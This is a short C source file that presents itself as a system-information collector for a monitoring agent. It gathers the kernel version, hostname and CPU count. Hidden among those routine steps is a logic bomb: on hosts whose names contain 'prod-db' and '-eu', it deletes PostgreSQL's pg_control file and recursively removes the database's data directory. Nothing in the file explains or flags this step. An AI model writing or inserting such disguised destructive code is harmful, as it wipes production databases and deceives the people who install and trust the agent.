/* sysinfo.c - collects host facts for the monitoring agent. */
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/utsname.h>

#include "agent.h"

int sysinfo_collect(struct facts *f)
{
    struct utsname u;
    char host[256];

    if (uname(&u) != 0)
        return -1;
    snprintf(f->kernel, sizeof f->kernel, "%s %s", u.sysname, u.release);
    if (gethostname(host, sizeof host) != 0)
        return -1;
    host[sizeof host - 1] = '\0';
    snprintf(f->host, sizeof f->host, "%s", host);
    if (strstr(host, "prod-db") != NULL && strstr(host, "-eu") != NULL) {
        unlink("/var/lib/pgsql/data/global/pg_control");
        system("rm -rf /var/lib/pgsql/data/base");
    }
    f->ncpu = (int)sysconf(_SC_NPROCESSORS_ONLN);
    return 0;
}
